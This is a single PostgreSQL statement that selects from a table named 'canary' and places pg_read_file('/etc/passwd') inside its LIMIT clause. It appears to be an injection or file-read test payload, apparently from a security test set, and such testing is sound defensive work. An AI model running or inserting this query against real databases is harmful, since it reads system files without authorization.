SELECT * FROM canary LIMIT length(pg_read_file('/etc/passwd'))
